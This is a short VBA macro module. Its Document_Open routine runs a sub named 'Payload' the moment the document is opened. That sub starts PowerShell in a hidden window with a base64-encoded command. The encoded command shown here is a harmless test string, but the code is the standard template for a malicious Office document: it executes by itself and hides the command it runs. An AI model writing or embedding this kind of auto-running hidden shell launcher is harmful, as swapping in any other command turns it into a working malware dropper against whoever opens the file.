Attribute VB_Name = "Module1"
Private Sub Document_Open()
    Payload
End Sub
Sub Payload()
    CreateObject("WScript.Shell").Run "powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAB0AGUAcwB0AA==", 0
End Sub
